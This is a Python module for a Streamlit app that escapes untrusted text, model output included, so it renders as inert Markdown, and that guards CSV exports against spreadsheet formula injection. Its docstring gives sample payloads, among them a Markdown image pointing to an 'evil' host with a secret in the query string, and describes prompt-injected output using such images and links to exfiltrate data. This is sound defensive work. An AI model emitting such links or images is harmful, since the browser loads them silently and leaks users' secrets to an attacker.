"""Untrusted text made inert where it lands: in Markdown a page renders, and in CSV a spreadsheet opens.

User ids, messages, model output, names, dataset cells and audit entries are data, never markup. Streamlit renders
most strings as Markdown (GitHub-flavoured, with math, colour directives and raw-HTML-free rendering), so a link
`[x](http://evil)`, an image `![](http://evil/x.png?secret)` — which the browser loads with no click —, an autolink
`<http://evil>`, a reference-style link or a bare `https://evil` / `www.evil.com` in model output would otherwise
become live: an exfiltration channel for prompt-injected output.

- `escape_markdown(text)`: the text shown exactly as written, with no construct left live. The characters that can
  open a Markdown, GFM or Streamlit construct anywhere in a line are backslash-escaped (CommonMark guarantees an
  escaped punctuation character is a literal): `\\ ` * [ ] < > & ~ $ |`, `_` unless between two letters or digits
  (where it can neither open nor close emphasis: `snake_case` stays as it is) and `:` before a letter (Streamlit's
  `:color[…]` directives); so are those that do only at the start of a line (a heading's `#`, a list's `-`, `+`,
  `1.` or `1)`, an underline's `-` or `=`, a table's delimiter row).
  That neutralises links, images (both need `[`), autolinks and HTML (`<`), entities (`&`), reference definitions,
  footnotes, emphasis, code, strikethrough, math, tables, headings, lists, quotes and breaks, while ordinary
  punctuation (`. , ; ' " ( ) - # !` within a line) stays as it is in the source. GitHub's autolink literals
  (`https://…`, `www.…`, `name@host.tld`) are found in the *rendered* text, after escapes are resolved, so escaping
  cannot stop them: a WORD JOINER (U+2060, invisible, zero width) is put inside `://`, after `www` and after the
  `@` of an address,
  where no autolink pattern can match across it. Newlines are kept as line breaks and leading indentation as
  no-break spaces (never an indented code block).
- `md(template, *args, **kwargs)`: `str.format` for Markdown we write around untrusted values: the template's own
  Markdown stays, every replacement field is escaped (conversions and format specs apply first).
- `code_span(text)`: the text as inline code (nothing is parsed inside a code span), with a fence longer than any
  run of backticks in it.
- `csv_cell(value)` / `csv_safe(frame)`: OWASP's rule against CSV formula injection: a text cell (or column name)
  starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so a spreadsheet shows it as text
  instead of evaluating it. `csv_unescape(cell)` undoes it (an exported CSV imports back unchanged): text starting
  with quotes then one of those characters gets one more quote on the way out and loses one on the way in.

This module imports nothing from Streamlit (nor pandas: `csv_safe` works on the frame it is given).
"""

from __future__ import annotations

import re
import string
from typing import Any

WORD_JOINER = "\u2060"
NO_BREAK_SPACE = "\u00a0"

# Characters that open a construct wherever they are (CommonMark, GFM, math, Streamlit directives), and those that do
# at the start of a line (headings, lists, setext underlines, thematic breaks). Each is escaped with a backslash.
_ANYWHERE = re.compile(r"([\\`*\[\]<>&~$|]|:(?=[A-Za-z])|(?<![^\W_])_|_(?![^\W_]))")
_LINE_START = re.compile(r"^(#{1,6}(?=[ \t]|$)"  # a heading
                         r"|[-+](?=[ \t]|$)|\d{1,9}(?=[.)](?:[ \t]|$))"  # a list item
                         r"|=(?=[= \t]*$)"  # a setext underline
                         r"|(?=.*-)[-:](?=[-:| \t]*$))")  # a setext underline, thematic break or table delimiter row
# Where GitHub-flavoured Markdown's autolink literals start: `scheme://`, `www.`, and the host of `name@host`.
_AUTOLINK_BREAKS = re.compile(r"(?<=:)(?=//)|(?i:(?<=www)(?=\.))|(?<=@)(?=[-\w]+(?:\.[-\w]+)+)")


def _escape_line(line: str) -> str:
    body = line.lstrip(" \t")
    indent = line[: len(line) - len(body)].replace("\t", "    ").replace(" ", NO_BREAK_SPACE)
    body = _ANYWHERE.sub(r"\\\1", body)
    match = _LINE_START.match(body)
    if match:  # a heading, list item or underline marker: escape it (for `1.` / `1)`, the `.` or `)`)
        marker = match.group(1)
        body = marker + "\\" + body[len(marker):] if marker[0].isdigit() else "\\" + body
    return indent + body


def escape_markdown(text: Any) -> str:
    """The text, shown as written and with no live Markdown or HTML: no link, image, autolink, HTML, emphasis,
    heading, list, table, code, math or directive. None is ''."""
    if text is None:
        return ""
    s = str(text).replace("\r\n", "\n").replace("\r", "\n")
    s = _AUTOLINK_BREAKS.sub(WORD_JOINER, s)
    # Two trailing spaces make a hard line break; an empty line stays a paragraph break.
    return "  \n".join(_escape_line(line) for line in s.split("\n"))


class _MarkdownFormatter(string.Formatter):
    def format_field(self, value: Any, format_spec: str) -> str:
        return escape_markdown(super().format_field(value, format_spec))


_FORMATTER = _MarkdownFormatter()


def md(template: str, /, *args: Any, **kwargs: Any) -> str:
    """`template.format(*args, **kwargs)` with every replacement field escaped by `escape_markdown`; the template's
    own Markdown (written by us) stays: `md("**{}** deleted", name)`."""
    return _FORMATTER.vformat(template, args, kwargs)


def code_span(text: Any) -> str:
    """The text as one inline code span (shown literally: no link, image or emphasis inside); newlines become
    spaces."""
    s = "" if text is None else str(text).replace("\r\n", " ").replace("\n", " ").replace("\r", " ")
    longest = max((len(run) for run in re.findall(r"`+", s)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if s.startswith("`") or s.endswith("`") or (s.startswith(" ") and s.endswith(" ") and s.strip()) \
        else ""
    return f"{fence}{pad}{s}{pad}{fence}" if s else ""


# ---------------------------------------------------------------------------------------------------------- CSV

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA = re.compile(r"'*[=+\-@\t\r]")
_ESCAPED_FORMULA = re.compile(r"'+[=+\-@\t\r]")


def csv_cell(value: Any) -> Any:
    """A CSV cell a spreadsheet will not evaluate: text starting with = + - @ tab or CR (after any quotes) gets a
    leading `'`; anything else (numbers included) is returned unchanged."""
    if isinstance(value, str) and _FORMULA.match(value):
        return "'" + value
    return value


def csv_unescape(value: str) -> str:
    """Undo `csv_cell` on a cell read back from CSV."""
    return value[1:] if _ESCAPED_FORMULA.match(value) else value


def csv_row(values: Any) -> list:
    """A row of cells for csv.writer, each through `csv_cell`."""
    return [csv_cell(v) for v in values]


def csv_safe(frame: Any) -> Any:
    """A copy of a pandas DataFrame whose text cells and column names go through `csv_cell` (for `to_csv`)."""
    out = frame.copy()
    out.columns = [csv_cell(c) for c in out.columns]
    for i in range(out.shape[1]):
        column = out.iloc[:, i]
        if column.dtype.kind == "O" or str(column.dtype) in ("str", "string"):
            out.isetitem(i, column.map(csv_cell, na_action="ignore"))
    return out


def frame_to_csv(frame: Any) -> bytes:
    """A DataFrame as UTF-8 CSV bytes, safe to open in a spreadsheet (see `csv_safe`)."""
    return csv_safe(frame).to_csv(index=False).encode("utf-8")
